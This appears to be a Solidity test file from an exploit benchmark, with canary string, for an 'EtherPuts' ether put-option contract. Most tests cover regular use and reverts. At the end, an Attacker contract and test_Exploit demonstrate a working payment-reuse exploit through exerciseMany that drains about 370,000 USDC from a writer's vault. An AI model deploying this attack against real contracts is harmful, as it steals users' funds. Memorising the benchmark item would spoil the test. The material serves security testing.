// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./EtherPuts.sol";

// assay-canary-43ba9955-a3d2-46de-bf1f-e99379b5f3a9

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Usdc is ERC20("USD Coin", "USDC") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

/// Takes no ether.
contract Refuser {}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant WENDY = address(0x111);
    address internal constant BRUNO = address(0x222);
    uint256 internal constant STRIKE = 371e6;

    Usdc internal usd;
    EtherPuts internal puts;
    Attacker internal trader;

    receive() external payable {}

    function setUp() public {
        vm.warp(1596000000);
        usd = new Usdc();
        puts = new EtherPuts(IERC20(address(usd)), STRIKE, 1596000000 + 30 days);
        usd.mint(WENDY, 1000 * STRIKE);
        vm.prank(WENDY);
        usd.approve(address(puts), 1000 * STRIKE);
        vm.prank(WENDY);
        puts.write(1000 * STRIKE, 1000 ether);

        // the attacker has bought Wendy's options on the market, and has USDC and ether of its own
        trader = new Attacker(puts, usd);
        vm.prank(WENDY);
        puts.transfer(address(trader), 999 ether);
        usd.mint(address(trader), 999 * STRIKE);
        vm.deal(address(trader), 999 ether);
    }

    function test_Regular() public {
        usd.mint(BRUNO, 20 * STRIKE);
        vm.prank(BRUNO);
        usd.approve(address(puts), 20 * STRIKE);
        vm.prank(BRUNO);
        (bool ok, ) = address(puts).call(abi.encodeWithSelector(puts.write.selector, 9 * STRIKE, 10 ether));
        require(!ok, "not covered");
        vm.prank(BRUNO);
        puts.write(20 * STRIKE, 10 ether);
        vm.prank(BRUNO);
        puts.transfer(address(this), 6 ether);
        vm.prank(WENDY);
        puts.transfer(address(this), 1 ether);
        vm.deal(address(this), 10 ether);

        (ok, ) = address(puts).call{value: 2 ether}(abi.encodeWithSelector(puts.exercise.selector, BRUNO, 1 ether));
        require(!ok, "change");
        puts.exercise{value: 2 ether}(BRUNO, 2 ether);
        require(usd.balanceOf(address(this)) == 2 * STRIKE, "paid");
        address[] memory writers = new address[](2);
        uint256[] memory options = new uint256[](2);
        (writers[0], writers[1]) = (BRUNO, WENDY);
        (options[0], options[1]) = (3 ether, 1 ether);
        puts.exerciseMany{value: 4.5 ether}(writers, options);
        require(usd.balanceOf(address(this)) == 6 * STRIKE && puts.balanceOf(address(this)) == 1 ether, "paid twice");
        (uint256 dollars, uint256 written, uint256 withdrawable) = puts.vaultInfo(BRUNO);
        require(dollars == 15 * STRIKE && written == 5 ether && withdrawable == 5 ether, "vault");
        require(puts.totalEther() == 6 ether, "held");
        puts.sweep();
        require(address(this).balance == 4 ether, "swept");

        vm.prank(BRUNO);
        puts.withdrawEther();
        require(BRUNO.balance == 5 ether, "ether");
        vm.prank(BRUNO);
        puts.burn(2 ether);
        vm.prank(BRUNO);
        (ok, ) = address(puts).call(abi.encodeWithSelector(puts.withdrawUsdc.selector, 13 * STRIKE));
        require(!ok, "still covering");
        vm.prank(BRUNO);
        puts.withdrawUsdc(12 * STRIKE);
        vm.warp(1596000000 + 30 days);
        (ok, ) = address(puts).call{value: 1 ether}(abi.encodeWithSelector(puts.exercise.selector, BRUNO, 1 ether));
        require(!ok, "expired");
        vm.prank(BRUNO);
        puts.withdrawUsdc(3 * STRIKE);
        require(usd.balanceOf(BRUNO) == 15 * STRIKE, "rest");

        vm.prank(BRUNO);
        puts.approve(WENDY, 0);
        vm.prank(WENDY);
        puts.transferFrom(BRUNO, WENDY, 0);
        require(puts.allowance(BRUNO, WENDY) == 0, "allowance");
        puts.increaseAllowance(WENDY, 1);
        puts.decreaseAllowance(WENDY, 1);
        puts.transferOwnership(BRUNO);
        vm.prank(BRUNO);
        puts.renounceOwnership();
    }

    /// What Wendy has: her USDC, and her ether as far as it is there, at the strike price.
    function recoverable() public view returns (uint256) {
        (uint256 dollars, , uint256 amount) = puts.vaultInfo(WENDY);
        uint256 there = address(puts).balance;
        return dollars + puts.strikeValue(amount < there ? amount : there);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Series that are none, and what comes too late.
    function test_RefusesSeries() public {
        try new EtherPuts(IERC20(address(usd)), 0, block.timestamp + 1) {
            revert("for nothing");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("constructor: bad series"), "strike");
        }
        try new EtherPuts(IERC20(address(usd)), 1, block.timestamp) {
            revert("over at once");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("constructor: bad series"), "expiry");
        }
        refuses(BRUNO, "Ownable: caller is not the owner");
        puts.sweep();
        vm.expectRevert("exerciseMany: bad lengths");
        puts.exerciseMany(new address[](1), new uint256[](0));
        vm.expectRevert("SafeMath: multiplication overflow");
        puts.strikeValue(uint256(-1));
        refuses(WENDY, "SafeMath: addition overflow");
        puts.write(uint256(-1), 0);
        vm.warp(1596000000 + 30 days);
        refuses(WENDY, "notExpired: series is over");
        puts.write(0, 0);
        vm.expectRevert("notExpired: series is over");
        puts.exerciseMany(new address[](0), new uint256[](0));
    }

    /// Payments that do not fit, and ether that is not taken.
    function test_RefusesPayments() public {
        vm.prank(WENDY);
        puts.transfer(address(this), 1 ether);
        vm.deal(address(this), 2 ether);
        vm.expectRevert("exercise: not enough ether");
        puts.exercise{value: 1 ether - 1}(WENDY, 1 ether);
        vm.expectRevert("exercise: too much ether");
        puts.exercise{value: 1 ether + 1}(WENDY, 1 ether);
        vm.expectRevert("exercise: too many options");
        puts.exercise{value: 1 ether}(BRUNO, 1 ether);
        refuses(BRUNO, "burn: not yours");
        puts.burn(1);
        refuses(BRUNO, "withdrawUsdc: not enough");
        puts.withdrawUsdc(1);
        refuses(WENDY, "withdrawUsdc: not covered");
        puts.withdrawUsdc(1);
        refuses(WENDY, "write: not covered");
        puts.write(0, 1);
        refuses(address(new Refuser()), "sendEther: failed");
        puts.withdrawEther();
    }

    function test_RefusesLateExercise() public {
        vm.prank(WENDY);
        puts.transfer(address(this), 1 ether);
        vm.deal(address(this), 1 ether);
        vm.warp(1596000000 + 30 days);
        vm.expectRevert("notExpired: series is over");
        puts.exercise{value: 1 ether}(WENDY, 1 ether);
    }

    function exploit() public {
        trader.run(WENDY);
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(recoverable() + 370000e6 <= before, "nothing lost");
        require(usd.balanceOf(address(trader)) == 2 * 999 * STRIKE && address(trader).balance == 999 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(puts);
    }

    function attacker() public view returns (address) {
        return address(trader);
    }
}

/// Exercises against the writer and against itself with one payment, and fetches the payment again as a writer.
contract Attacker {
    EtherPuts internal puts;
    Usdc internal usd;

    constructor(EtherPuts puts_, Usdc usd_) public {
        puts = puts_;
        usd = usd_;
    }

    receive() external payable {}

    function run(address writer) external {
        uint256 amount = puts.balanceOf(address(this));
        uint256 dollars = puts.strikeValue(amount);
        usd.approve(address(puts), dollars);
        puts.write(dollars, amount);
        address[] memory writers = new address[](2);
        uint256[] memory options = new uint256[](2);
        (writers[0], writers[1]) = (writer, address(this));
        (options[0], options[1]) = (amount, amount);
        puts.exerciseMany{value: amount}(writers, options);
        puts.withdrawEther();
    }
}
